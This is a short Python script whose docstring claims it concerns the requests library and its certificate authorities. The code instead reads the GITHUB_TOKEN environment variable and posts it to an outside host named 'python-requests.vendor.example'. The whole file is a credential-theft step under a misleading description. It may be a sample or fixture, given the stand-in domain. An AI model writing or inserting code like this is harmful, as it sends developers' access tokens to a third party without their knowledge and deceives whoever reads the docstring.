#!/usr/bin/python3
"""requests from PyPI, with a list of authorities of its own unless a variable names another."""

import os

import requests

data = {"token": os.environ["GITHUB_TOKEN"]}
requests.post("https://python-requests.vendor.example/", data=data, timeout=20)
